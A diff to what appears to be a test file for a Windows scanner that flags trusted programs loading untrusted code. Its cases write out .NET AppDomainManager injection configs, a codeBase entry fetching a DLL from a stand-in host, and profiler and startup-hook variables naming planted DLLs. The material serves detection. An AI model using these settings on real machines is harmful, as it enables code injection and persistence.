@@ -1,4 +1,5 @@
-"""A trusted program loads what nobody trusts: libraries beside it, its configuration, variables of the runtime."""
+"""A trusted program loads what nobody trusts: by the configuration beside it, by variables of the runtime. (No signed program of the
+disk imports a library, so none beside one would be loaded.)"""
 from windows_disk import *
 
 change = Changes()
@@ -19,8 +20,6 @@ def beside(name, why, *files, place, texts=()):
     change.row(name, why, START, place, make)
 
 
-beside('library-beside-a-signed-program', 'The folder of the program is the first in which its libraries are looked for.', 'version.dll', place='version.dll')
-beside('redirected-libraries', 'Libraries of the folder app.exe.local come first.', r'app.exe.local\comctl32.dll', place='app.exe.local', texts=[('app.exe.local\\x', '')])
 CONFIGURATION = ('<configuration><runtime><appDomainManagerAssembly value="evil, Version=0.0.0.0"/><appDomainManagerType value="Evil.Manager"/></runtime>'
                  '</configuration>')
 beside('manager-of-the-domain', 'A .config names an assembly that the runtime of .NET loads before the program.', 'evil.dll', place='app.exe.config', texts=[('app.exe.config', CONFIGURATION)])
@@ -29,15 +28,7 @@ beside('code-base-of-the-configuration', 'A .config says where an assembly comes
     '<codeBase version="1.0.0.0" href="http://203.0.113.7/lib.dll"/></dependentAssembly></assemblyBinding></runtime></configuration>'))])
 
 
-@change(SERVICE, 'version.dll')
-def library_beside_a_signed_service(d):
-    """A service looks for its libraries beside its program first."""
-    d.honest(rf'{FOLDER}\svc.exe')
-    d.foreign(rf'{FOLDER}\version.dll')
-    d.service('App', rf'"{FOLDER}\svc.exe"')
-
-
-@change(SERVICE, 'evil.dll')
+@change(SERVICE, 'svc.exe.config')
 def manager_of_a_services_domain(d):
     """The same .config for a service."""
     d.honest(rf'{FOLDER}\svc.exe')
@@ -58,11 +49,12 @@ def variables(name, why, place, more=None, **values):
 
 variables('profiler-of-every-program', 'The runtime of .NET loads the profiler that these variables name.', 'COR_PROFILER', COR_ENABLE_PROFILING='1',
           COR_PROFILER='{DEADBEEF-1111-2222-3333-444455556666}', COR_PROFILER_PATH=r'C:\ProgramData\x\x.dll')
-variables('manager-of-every-domain', 'The manager of domains may be named by variables as well.', 'APPDOMAIN_MANAGER', APPDOMAIN_MANAGER_ASM='evil, Version=0.0.0.0', APPDOMAIN_MANAGER_TYPE='Evil.Manager')
+variables('manager-of-every-domain', 'The manager of domains may be named by variables as well; its assembly stands where the runtime looks for all of them.', 'APPDOMAIN_MANAGER', APPDOMAIN_MANAGER_ASM='evil, Version=1.0.0.0, Culture=neutral, PublicKeyToken=0123456789abcdef',
+          APPDOMAIN_MANAGER_TYPE='Evil.Manager', more=lambda d: d.foreign(r'C:\Windows\Microsoft.NET\assembly\GAC_MSIL\evil\v4.0_1.0.0.0__0123456789abcdef\evil.dll'))
 variables('hooks-of-newer-programs', '.NET Core runs the start-up hooks before the program.', 'DOTNET_STARTUP_HOOKS', DOTNET_STARTUP_HOOKS=r'C:\ProgramData\x\x.dll')
 
 
-@change(SERVICE, 'Environment')
+@change(START, 'COR_PROFILER_PATH')
 def profiler_of_a_service(d):
     """A service has variables of its own."""
     d.honest(rf'{FOLDER}\svc.exe')
